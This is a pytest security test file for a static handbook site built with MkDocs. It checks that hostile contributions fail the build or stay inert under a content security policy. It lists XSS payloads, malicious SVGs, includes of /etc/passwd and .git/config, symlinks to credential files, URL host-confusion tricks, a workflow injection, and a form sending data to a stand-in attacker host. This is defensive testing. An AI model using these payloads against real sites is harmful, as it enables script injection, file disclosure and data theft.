"""Issue 11: hostile or careless contributions are rejected at build time, naming file and
line, or are provably inert in Chromium. One row per case; a new case is one line.

Each build row writes files into a copy of tests/fixtures/security (two small pages built with
the handbook's real mkdocs.yml and mkdocs.base.yml, overrides, includes and data), builds strictly, and
asserts that the build fails and that one message holds every expected fragment (the file and
line first). Root causes, as numbered in the issue:
 1 values reach templates unescaped     2 the HTML parser is not the browser's
 3 files never scanned, or as the wrong language      4 machine files published
 5 notices present but invisible        6 host checks disagree with browsers
 7 safe messaging on raw Markdown only  8 review dates in the future
 9 engineer-owned settings bypass the policy          10 workflows over-privileged
11 checklist answers keyed by their wording
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import FIXTURES, ROOT, build_project
from gates import NOTICES_SEEN, handbook_pages

RISKS = "docs/risks.md"
LINE = 18  # the line of {construct} in the fixture's risks.md
AT = f"{RISKS}:{LINE}"
BOX = '\n\n--8<-- "crisis-inline.md"\n'
TODAY = "2026-12-01"


@dataclass
class Case:
    root: int                       # the root cause
    construct: str = ""             # written on line 18 of docs/risks.md
    expect: tuple[str, ...] = ()    # fragments of one error message (file:line first)
    files: dict = field(default_factory=dict)      # extra files: path -> text or bytes
    front: dict = field(default_factory=dict)      # front-matter lines of risks.md to replace/add
    config: str = ""                # YAML appended to the fixture's mkdocs.yml
    links: dict = field(default_factory=dict)      # symlinks: path -> target


def _fm(key: str, value: str) -> dict:
    return {key: value}


CASES = {
    # 1. Front matter and config values reach templates unescaped
    "fm-description-script": Case(1, front=_fm("description", "'\"><script>alert(1)</script>'"),
                                  expect=(f"{RISKS}:3", "`description` must be plain text")),
    "fm-title-closes-title": Case(1, front=_fm("title", "'</title><script>alert(1)</script>'"),
                                  expect=(f"{RISKS}:2", "`title` must be plain text")),
    "fm-description-pushes-csp": Case(1, front=_fm("description", "'\"><i></i>'"),
                                      expect=(f"{RISKS}:3", "`description` must be plain text")),
    "fm-reviewer-img-onerror": Case(1, front=_fm("reviewer", "'<img src=x onerror=alert(1)>'"),
                                    expect=(f"{RISKS}:7", "`reviewer` must be plain text")),
    "fm-unknown-key-template": Case(1, front=_fm("template", "evil.html"),
                                    expect=(f"{RISKS}:8", "has the key `template`")),
    "fm-title-bidi-override": Case(1, front=_fm("title", "\"Risks \\u202e\""),
                                   expect=(f"{RISKS}:2", "`title` must be plain text")),
    "config-edition-markup": Case(1, config="extra:\n  edition: '<script>alert(1)</script>'\n",
                                  expect=("mkdocs.yml:", "edition")),
    "config-site-name-markup": Case(1, config="site_name: 'Handbook</title><script>alert(1)</script>'\n",
                                    expect=("mkdocs.yml:", "site_name", "plain text")),
    # 2. The HTML parser is not the browser's
    "comment-hides-meta-refresh": Case(2, '<!--> <meta http-equiv="refresh" content="0;url=https://evil.example/"> -->',
                                       (AT, "<meta> element")),
    "comment-hides-script-src": Case(2, '<!--> <script src="../payload.txt"></script> -->', (AT, "<script> element")),
    "cdata-hides-onerror": Case(2, "<![CDATA[ > <img src=x alt=x onerror=alert(1)> ]]>", (AT, "`onerror=`")),
    "svg-animate-javascript-values": Case(2, '<svg><a><animate attributeName="href" values="#;javascript:alert(1)"/><text>x</text></a></svg>',
                                          (AT, "`javascript:` URL")),
    "short-comment-hides-iframe": Case(2, '<!---> <iframe src="https://evil.example/"></iframe> -->',
                                       (AT, "<iframe> element")),
    # 3. Files never scanned, or scanned as the wrong language
    "xhtml-file": Case(3, files={"docs/evil.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'},
                       expect=("docs/evil.xhtml:1", "may not be published")),
    "svg-namespaced-script": Case(3, files={"docs/chart.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg">\n<svg:script>alert(1)</svg:script></svg>'},
                                  expect=("docs/chart.svg:2", "SVG <script>")),
    "svg-entity-expands-to-script": Case(3, files={"docs/chart.svg": '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'},
                                         expect=("docs/chart.svg:", "DTD or entity")),
    "svg-foreignobject": Case(3, files={"docs/chart.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>'},
                              expect=("docs/chart.svg:2", "foreignObject")),
    "svg-javascript-link": Case(3, files={"docs/chart.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<a href="javascript:alert(1)"><text>x</text></a></svg>'},
                                expect=("docs/chart.svg:2", "script URL")),
    "payload-txt-file": Case(3, files={"docs/payload.txt": "localStorage"}, expect=("docs/payload.txt:1", "`.txt`")),
    "html-file": Case(3, files={"docs/page.html": "<p>hi</p>"}, expect=("docs/page.html:1", "`.html`")),
    # 4. Machine files can be published
    "snippet-git-config": Case(4, '--8<-- ".git/config"', (AT, "includes `.git/config`")),
    "snippet-dot-dot": Case(4, '--8<-- "../../../../etc/passwd"', (AT, "not a file in includes/")),
    "snippet-mkdocs-yml": Case(4, '--8<-- "mkdocs.yml"', (AT, "includes `mkdocs.yml`")),
    "symlink-in-includes": Case(4, links={"includes/system.md": "/etc/passwd"}, expect=("includes/system.md:1", "symbolic link")),
    "symlink-in-docs": Case(4, links={"docs/env.md": "/proc/self/environ"}, expect=("docs/env.md:1", "symbolic link")),
    "symlink-dir-in-overrides": Case(4, links={"overrides/etc": "/etc"}, expect=("overrides/etc:1", "symbolic link")),
    # 5. Notices present but invisible
    "unclosed-div-hidden": Case(5, "<div hidden>\n\nText.", (AT, "leaves <div> open")),
    "unclosed-template": Case(5, "<template>\n\nText.", (AT, "<template> element")),
    "unclosed-noscript": Case(5, "<noscript>", (AT, "<noscript> element")),
    "unclosed-display-none": Case(5, '<div style="display:none">\n\nText.', (AT, "style attribute")),
    "attr-list-position-fixed": Case(5, 'Hello.\n{ style="position:fixed;inset:0;background:#fff" }', (f"{RISKS}:19", "style attribute")),
    "unclosed-details": Case(5, "<details><summary>More</summary>\n\nText.", (AT, "leaves <details> open")),
    "unclosed-textarea": Case(5, "<textarea>", (AT, "<textarea> element")),
    "unclosed-aside-aria-hidden": Case(5, '<aside aria-hidden="true">\n\nText.', (AT, "leaves <aside> open")),
    # 6. Host checks disagree with browsers
    "backslash-at-host": Case(6, '<a href="https://evil.example\\@doi.org/">trial</a>', (AT, "evil.example is not in data/trusted-domains.yml")),
    "markdown-backslash-at-host": Case(6, "[trial](https://evil.example\\@doi.org/)", (AT, "evil.example is not in")),
    "dot-segments-leave-trusted-path": Case(6, "[x](https://github.com/trd-handbook/../attacker/repo)", (AT, "github.com is not in data/trusted-domains.yml")),
    "encoded-dot-segments": Case(6, "[x](https://github.com/trd-handbook/%2e%2e/attacker/repo)", (AT, "github.com is not in data/trusted-domains.yml")),
    "slash-backslash-host": Case(6, '<a href="https:/\\evil.example/">trial</a>', (AT, "evil.example is not in")),
    "tel-any-number": Case(6, "Call [988](tel:+19005550100).", (AT, "a `tel:` link", "+19005550100")),
    "tel-encoded-number": Case(6, "Call [988](tel:%2B1%20900%20555%200100).", (AT, "a `tel:` link")),
    "backslash-image-other-host": Case(6, '<img src="/\\evil.example/p.png" alt="x">', (AT, "loads /\\evil.example/p.png from another host")),
    # 7. Safe-messaging lint runs on raw Markdown only
    "bold-inside-phrase": Case(7, "He committed **suicide**." + BOX, (AT, '"committed suicide"')),
    "soft-hyphen-entity": Case(7, "He commit&shy;ted suicide." + BOX, (AT, '"committed suicide"')),
    "link-inside-phrase": Case(7, "He committed [suicide](index.md)." + BOX, (AT, '"committed suicide"')),
    "zero-width-space": Case(7, "He committed\u200b suicide." + BOX, (AT, '"committed suicide"')),
    "phrase-from-snippet": Case(7, '--8<-- "bad.md"' + BOX, ("includes/bad.md:1", '"committed suicide"'),
                                files={"includes/bad.md": "He committed suicide.\n"}),
    "method-lethal-dose": Case(7, "A lethal dose of ketamine is far above a treatment dose [@berman2000].", (AT, "lethal dose")),
    "method-how-many": Case(7, "Some people ask how many pills it takes to die." + BOX, (AT, "how much it takes to die")),
    "crisis-class-in-comment": Case(7, "Suicide risk is watched closely. <!-- hb-crisis-inline -->", (f"{RISKS}:", "has no crisis box")),
    "crisis-class-as-text": Case(7, "Suicide risk is watched closely. `hb-crisis-inline`", (f"{RISKS}:", "has no crisis box")),
    # 8. Review dates can be pushed into the future
    "last-reviewed-2030": Case(8, front={"last_reviewed": "2030-01-01", "next_review": "2030-06-01"},
                               expect=(f"{RISKS}:4", "is in the future")),
    "last-reviewed-next-month": Case(8, front={"last_reviewed": "2027-01-01"}, expect=(f"{RISKS}:4", "is in the future")),
    "last-reviewed-not-a-date": Case(8, front={"last_reviewed": '"2026-02-30"'}, expect=(f"{RISKS}:4", "not a real date")),
    # 9. Engineer-owned settings bypass the policy
    "extra-javascript-remote": Case(9, config="extra_javascript:\n  - https://cdn.example.com/x.js\n", expect=("mkdocs.yml:", "extra_javascript")),
    "extra-css-protocol-relative": Case(9, config="extra_css:\n  - //cdn.example.com/x.css\n", expect=("mkdocs.yml:", "extra_css")),
    "extra-javascript-backslash-host": Case(9, config="extra_javascript:\n  - '/\\\\cdn.example.com/x.js'\n", expect=("mkdocs.yml:", "extra_javascript")),
    "theme-font": Case(9, config="theme:\n  font:\n    text: Roboto\n", expect=("mkdocs.yml:", "font", "Google Fonts")),
    "extra-analytics": Case(9, config="extra:\n  analytics:\n    provider: google\n    property: G-XXXXXXX\n", expect=("mkdocs.yml:", "analytics")),
}


def _project(tmp: Path, case: Case) -> Path:
    """The fixture, on top of copies of the real overrides, includes, data and config (the
    handbook's mkdocs.yml, which INHERITs mkdocs.base.yml: the real pipeline in the real order)."""
    project = tmp / "site-src"
    for part in ("overrides", "includes", "data"):
        shutil.copytree(ROOT / part, project / part, ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(ROOT / "docs" / "assets", project / "docs" / "assets")
    shutil.copy(ROOT / "mkdocs.base.yml", project / "mkdocs.base.yml")
    shutil.copy(ROOT / "mkdocs.yml", project / "handbook.yml")
    shutil.copy(ROOT / "CHANGELOG.md", project / "CHANGELOG.md")
    shutil.copytree(FIXTURES / "security", project, dirs_exist_ok=True)
    import yaml

    keys = "; ".join(f"@{key}" for key in yaml.safe_load((ROOT / "data" / "references.yml").read_text()))
    (project / "docs" / "sources.md").write_text(
        (project / "docs" / "index.md").read_text().replace("# Start here", "# Sources")
        .replace("title: Start here", "title: Sources").replace("See [risks](risks.md).", f"All sources [{keys}].\n\n--8<-- \"crisis-inline.md\"\n"))
    risks = (project / RISKS).read_text().replace("{construct}", case.construct)
    lines = risks.split("\n")
    for key, value in case.front.items():
        at = next((i for i, line in enumerate(lines[:9]) if line.startswith(f"{key}:")), None)
        if at is None:
            lines.insert(7, f"{key}: {value}")
        else:
            lines[at] = f"{key}: {value}"
    (project / RISKS).write_text("\n".join(lines))
    for name, text in case.files.items():
        path = project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    for name, target in case.links.items():
        os.symlink(target, project / name)
    if case.config:
        with (project / "mkdocs.yml").open("a") as config:
            config.write(case.config)
    return project


def test_the_fixture_itself_builds(tmp_path, monkeypatch):
    """Control: without a construct the fixture builds, so every failure below is the case's."""
    monkeypatch.setenv("HANDBOOK_TODAY", TODAY)
    result = build_project(_project(tmp_path, Case(0)))
    assert result.ok, result.warnings


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_hostile_contribution_fails_the_build_naming_file_and_line(tmp_path, monkeypatch, case):
    monkeypatch.setenv("HANDBOOK_TODAY", TODAY)
    result = build_project(_project(tmp_path, case))
    assert not result.ok, f"root cause {case.root}: the build passed"
    assert result.warned(*case.expect), "\n".join(result.warnings)


# ---- 10. Workflows: least privilege, checked by zizmor offline ----

OVERPRIVILEGED = """name: Deploy
on:
  push:
    branches: [main]
permissions:
  contents: read
  pages: write
  id-token: write
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: echo build
  deploy:
    needs: build
    runs-on: ubuntu-24.04
    steps:
      - run: echo deploy
"""


def _zizmor(folder: Path) -> subprocess.CompletedProcess:
    zizmor = Path(sys.executable).parent / "zizmor"
    if not zizmor.exists():
        pytest.fail("zizmor is not installed in the venv: run `make setup` (requirements.txt pins it)")
    return subprocess.run([str(zizmor), "--offline", "--min-severity", "high", str(folder)],
                          capture_output=True, text=True, timeout=120)


def test_workflows_have_no_high_zizmor_finding():
    run = _zizmor(ROOT / ".github" / "workflows")
    assert run.returncode == 0, run.stdout + run.stderr


@pytest.mark.parametrize("workflow", [
    OVERPRIVILEGED,  # the example: pages/id-token write at workflow level
    OVERPRIVILEGED.replace("  contents: read\n  pages: write\n  id-token: write\n", "  write-all\n").replace("permissions:\n", "permissions:"),
    OVERPRIVILEGED.replace("      - run: echo deploy", "      - run: echo \"${{ github.event.head_commit.message }}\""),
])
def test_zizmor_catches_overprivileged_or_injectable_workflows(tmp_path, workflow):
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    (folder / "deploy.yml").write_text(workflow)
    run = _zizmor(folder)
    assert run.returncode != 0, run.stdout


def test_deploy_grants_pages_and_id_token_write_only_to_the_deploy_job():
    import yaml

    workflow = yaml.safe_load((ROOT / ".github" / "workflows" / "deploy.yml").read_text())
    assert workflow["permissions"] == {}
    assert workflow["jobs"]["build"]["permissions"] == {"contents": "read"}
    assert workflow["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}


# ---- 11. Checklist answers keyed by a stable id, not the wording ----


@pytest.mark.parametrize("before, after", [
    ("Ask how much it will cost you. {#ask-cost}", "Ask how much treatment will cost you, in total. {#ask-cost}"),
    ("Ask what your <a href='x'>choices</a> are. {#ask-choices}", "Ask what all your other choices are. {#ask-choices}"),
    ("Talk it over. {#talk}", "Talk it over with someone you trust. {#talk}"),
])
def test_rewording_a_checklist_item_keeps_its_answer_key(before, after):
    from handbook.steps.checklist import label_task_items

    def key(words: str) -> str:
        problems: list[str] = []
        html, count = label_task_items(f'<ul><li class="task-list-item"><input type="checkbox" disabled> {words}</li></ul>', problems)
        assert count == 1 and problems == []
        assert "{#" not in html  # the key is never shown
        return html.split('data-hb-item="', 1)[1].split('"', 1)[0]

    assert key(before) == key(after)


def test_every_item_of_the_real_checklist_has_its_own_key():
    import markdown

    from handbook.steps.checklist import label_task_items

    text = (ROOT / "docs" / "checklist.md").read_text()
    html = markdown.markdown(text.split("---", 2)[2], extensions=["pymdownx.tasklist"])
    problems: list[str] = []
    _, count = label_task_items(html, problems)
    assert count >= 20 and problems == []


def test_an_item_without_a_key_or_with_a_repeated_key_is_reported():
    from handbook.steps.checklist import label_task_items

    problems: list[str] = []
    label_task_items('<ul><li class="task-list-item"><input type="checkbox"> A {#a}</li>'
                     '<li class="task-list-item"><input type="checkbox"> B {#a}</li>'
                     '<li class="task-list-item"><input type="checkbox"> C</li></ul>', problems)
    assert len(problems) == 2 and "again" in problems[0] and "no stable key" in problems[1]


# ---- Browser: notices seen as a reader sees them; injected code is inert ----

MODES = {
    "light": dict(viewport={"width": 1280, "height": 900}, color_scheme="light"),
    "dark": dict(viewport={"width": 1280, "height": 900}, color_scheme="dark"),
    "print": dict(viewport={"width": 794, "height": 1123}, color_scheme="light"),
}
#: The light and 320 px passes of the notice check run in the same browser visit per page as
#: the accessibility gates (tests/test_browser_gates.py: test_both_notices_visible_and_uncovered),
#: so each page is loaded once per mode; here, the modes no other test visits.
OWN_MODES = ("dark", "print")


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.parametrize("mode", OWN_MODES)
def test_every_page_shows_both_notices_visible_and_uncovered(chromium, served_site, mode):
    context = chromium.new_context(**MODES[mode])
    try:
        page = context.new_page()
        if mode == "print":
            page.emulate_media(media="print")
        problems = []
        for path in handbook_pages():
            page.goto(served_site + path, wait_until="load")
            if mode == "dark":
                assert page.evaluate("document.body.getAttribute('data-md-color-scheme')") == "slate"
            problems += [f"{path or 'index'}: {p}" for p in page.evaluate(NOTICES_SEEN)]
        assert problems == [], "\n".join(problems)
    finally:
        context.close()


@pytest.mark.browser
@pytest.mark.slow
def test_print_page_shows_every_chapter_on_paper(chromium, served_site):
    from handbook.config import in_print_page, load

    config = load(ROOT / "mkdocs.yml")
    expected = len([p for p in config.nav if in_print_page(config, next(iter(p.values())))])
    context = chromium.new_context(**MODES["print"])
    try:
        page = context.new_page()
        page.emulate_media(media="print")
        page.goto(served_site + "print_page/", wait_until="load")
        shown = page.evaluate("""() => [...document.querySelectorAll('section.print-page[id]')]
            .filter((s) => s.checkVisibility({opacityProperty: true, visibilityProperty: true})
                           && s.getBoundingClientRect().height > 20 && !s.parentElement.closest('section.print-page'))
            .map((s) => s.id)""")
        assert len(shown) == expected, shown
    finally:
        context.close()


#: Markup that reached a built page by some route the build did not catch (a template or
#: hook bug): the CSP must keep it inert. `__hbPwned` is set only if injected code runs.
INJECTED = {
    "inline-script": "<script>window.__hbPwned = 1</script>",
    "event-handler": '<img src="missing.png" alt="" onerror="window.__hbPwned = 1">',
    "data-url-script": '<script src="data:text/javascript,window.__hbPwned=1"></script>',
    "fixed-overlay-style": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Nothing to see</div>',
    "offsite-stylesheet": '<link rel="stylesheet" href="https://evil.example/hide.css">',
    "offsite-image": '<img src="https://evil.example/pixel.gif" alt="">',
    "form-to-other-host": '<form action="https://evil.example/collect"><input name="q" value="x"><button id="hb-go">Go</button></form>',
    "form-to-own-host": '<form action="../collect/"><input name="answers" value="x"><button id="hb-go">Go</button></form>',
    "base-to-other-host": '<base href="https://evil.example/"><img src="pixel.gif" alt="">',
    "base-to-own-path": '<base href="/evil/"><img src="pixel.gif" alt="">',
}


def _hooks_without_csp() -> str:
    """Every step but csp (the plugin's `skip`, as the gates fixture uses it)."""
    return "plugins:\n  handbook:\n    skip: [csp]\n"


@pytest.fixture(scope="module")
def inert_site(tmp_path_factory):
    """The fixture built with every hook but csp.py: its pages carry the policy still inert,
    as csp.py finds them at the end of a real build."""
    os.environ["HANDBOOK_TODAY"] = TODAY
    try:
        project = _project(tmp_path_factory.mktemp("inert"), Case(0, config=_hooks_without_csp()))
        result = build_project(project)
    finally:
        os.environ.pop("HANDBOOK_TODAY", None)
    assert result.ok, result.warnings
    return project, result.site


def _switch_on_csp(html: str, project: Path) -> str:
    """What csp.py does to a built page, with the project's allowlist (its problems would fail
    the build; here we only ask what the browser would do if such a page shipped)."""
    import material

    from handbook import csp_policy
    from handbook.steps import csp

    dirs = [project / "overrides", Path(material.__file__).parent / "templates"]
    return csp.apply_csp(html, csp_policy.allowlist_from_templates(dirs))[0]


@pytest.mark.browser
@pytest.mark.parametrize("payload", INJECTED.values(), ids=INJECTED.keys())
def test_injected_markup_is_inert_under_the_csp(chromium, inert_site, tmp_path, payload):
    from conftest import serve
    from gates import watch

    project, built = inert_site
    site = tmp_path / "site"
    shutil.copytree(built, site)
    risks = site / "risks" / "index.html"
    html = risks.read_text(encoding="utf-8")
    marker = '<h1 id="risks">'
    assert marker in html and 'name="hb-csp"' in html
    risks.write_text(_switch_on_csp(html.replace(marker, payload + marker, 1), project), encoding="utf-8")
    with serve(site, "/ketamine-handbook/") as url:
        context = chromium.new_context(**MODES["light"])
        seen = watch(context, url)
        try:
            page = context.new_page()
            dialogs = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(url + "risks/", wait_until="networkidle")
            if page.locator("#hb-go").count():
                # As if the reader pressed Go (the click itself would wait for a navigation
                # that form-action 'none' never lets start).
                page.evaluate("document.getElementById('hb-go').form.requestSubmit(document.getElementById('hb-go'))")
                page.wait_for_timeout(800)
            assert page.evaluate("window.__hbPwned") is None, "injected code ran"
            assert dialogs == []
            assert seen.sent == [], f"requests left 127.0.0.1: {seen.sent}"
            assert page.url == url + "risks/", f"navigated away to {page.url}"
            assert page.evaluate("document.baseURI") == url + "risks/", "a <base> changed where links go"
            assert page.evaluate(NOTICES_SEEN) == []
        finally:
            context.close()


@pytest.mark.browser
@pytest.mark.parametrize("fault", [
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">cover</div>',
    "<style>#disclaimer, #crisis-help { visibility: hidden }</style>",
    "<style>.hb-safety { display: none }</style>",
])
def test_the_notice_gate_reports_a_covered_or_hidden_notice(chromium, inert_site, tmp_path, fault):
    """The gate itself can fail: with the CSP bypassed, an overlay or a hiding style is seen."""
    from conftest import serve

    _, built = inert_site
    site = tmp_path / "site"
    shutil.copytree(built, site)
    risks = site / "risks" / "index.html"
    risks.write_text(risks.read_text(encoding="utf-8").replace("</body>", fault + "</body>", 1), encoding="utf-8")
    with serve(site, "/ketamine-handbook/") as url:
        context = chromium.new_context(bypass_csp=True, **MODES["light"])
        try:
            page = context.new_page()
            page.goto(url + "risks/", wait_until="load")
            assert page.evaluate(NOTICES_SEEN) != []
        finally:
            context.close()
